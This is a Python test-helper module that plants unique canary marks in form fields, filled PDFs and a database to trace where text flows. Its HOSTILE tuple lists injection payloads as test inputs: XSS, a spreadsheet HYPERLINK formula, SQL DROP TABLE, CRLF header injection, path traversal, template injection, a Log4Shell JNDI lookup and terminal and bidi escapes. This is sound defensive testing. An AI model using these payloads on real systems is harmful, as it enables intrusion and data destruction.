"""Fifty things people might write on forms, each to be found by one mark that occurs nowhere else."""

import datetime as dt
import io
from collections.abc import Iterable, Iterator, Mapping
from itertools import cycle
from pathlib import Path

import pikepdf
import sqlalchemy as sa

from documents import Doubt, FieldReading, FormReading, FormRef, ReadState, Writing
from forms.definition import MARKED_KINDS, FieldKind
from registry.tables import METADATA
from tests.validators.builders import CURRENT_FORMS, form_of, library, perfect

NAMES = (
    "Zebrafinch", "Quillweaver", "Ombrosine", "Tarnadell", "Vexholme",
    "Jadwickel", "Umberlyne", "Krasnovik", "Wolframina", "Yttervale",
)  # fmt: skip
DATES = tuple(f"{dt.date(1931 + 3 * number, 1 + number, 11 + number)}" for number in range(10))
NUMBERS = tuple(f"{2_125_550_187 + 1_010_101 * number}" for number in range(10))
EMAILS = tuple(f"heron.{number}7@kestrelpost.example" for number in range(10))
HOSTILE = tuple(
    text.replace("*", f"kanary{number}z")
    for number, text in enumerate(
        (
            "<script>alert('*')</script>",
            '=HYPERLINK("https://*.example";"*")',
            '*\n{"level": "error", "message": "forged"}',
            "*\r\nSet-Cookie: *=1",
            "'; DROP TABLE reading; -- *",
            "../../etc/*",
            "{{ 7 * 7 }} {% include '*' %}",
            "${jndi:ldap://*.example/a}",
            "\x1b[2J*",
            "\u202e*\u202c",
        )
    )
)
MARKS: Mapping[str, str] = {
    **{each: each.lower() for each in (*NAMES, *DATES, *NUMBERS, *EMAILS)},
    **{text: f"kanary{number}z" for number, text in enumerate(HOSTILE)},
}
"""The mark of each planted text, in small letters."""

_WRITTEN_TO: Mapping[FieldKind, Iterable[str]] = {
    FieldKind.EMAIL: EMAILS[:6],
    FieldKind.TEXT: (*HOSTILE, *EMAILS[6:]),
    FieldKind.DATE: DATES,
    **dict.fromkeys((FieldKind.NAME, FieldKind.ADDRESS, FieldKind.CITY), NAMES),
    **dict.fromkeys((FieldKind.PHONE, FieldKind.LICENSE, FieldKind.NPI, FieldKind.INTEGER), NUMBERS),
}


def on_forms() -> dict[FormRef, dict[str, str]]:
    """What is written in which fields of the four forms, so that everything stands somewhere."""
    rings: dict[int, Iterator[str]] = {id(texts): cycle(texts) for texts in _WRITTEN_TO.values()}
    return {
        ref: {
            field.name: next(rings[id(_WRITTEN_TO[field.kind])])
            for field in form_of(ref).fields
            if field.kind in _WRITTEN_TO
        }
        for ref in CURRENT_FORMS
    }


def reading_with(ref: FormRef, written: Mapping[str, str], fax: str) -> FormReading:
    """A reading of a form with these texts in its fields, all in doubt."""
    seen = perfect(ref).reading
    readings = tuple(_with(one, written.get(one.field)) for one in seen.readings)
    document = seen.document.model_copy(update={"fax": fax})
    return seen.model_copy(update={"readings": readings, "document": document})


def _with(read: FieldReading, text: str | None) -> FieldReading:
    if text is None:
        return read
    changes = {
        "state": ReadState.READ,
        "value": text,
        "seen": text,
        "writing": Writing.HANDWRITTEN,
        "doubts": (Doubt.ENGINES_DISAGREE,),
    }
    return FieldReading.model_validate({**dict(read), **changes})


def filled_in(ref: FormRef, written: Mapping[str, str], to: Path) -> Path:
    """The blank of a form with these texts in its fillable fields, as a file."""
    marked = {field.name for field in form_of(ref).fields if field.kind in MARKED_KINDS}
    content = io.BytesIO()
    with pikepdf.open(library().blank_path(ref)) as pdf:
        for page in pdf.pages:
            for widget in page.get("/Annots", pikepdf.Array()):
                name = str(widget["/T"])
                if name in written and name not in marked:
                    widget["/V"] = pikepdf.String(written[name])
        pdf.save(content)
    to.write_bytes(content.getvalue())
    return to


def found_in(text: str) -> set[str]:
    """The marks in a text, whatever its case."""
    small = text.lower()
    return {mark for mark in MARKS.values() if mark in small}


def in_database(engine: sa.Engine) -> set[str]:
    """The marks that the database holds."""
    with engine.connect() as connection:
        rows = [
            tuple(row) for table in METADATA.sorted_tables for row in connection.execute(sa.select(table))
        ]
    return found_in(repr(rows))
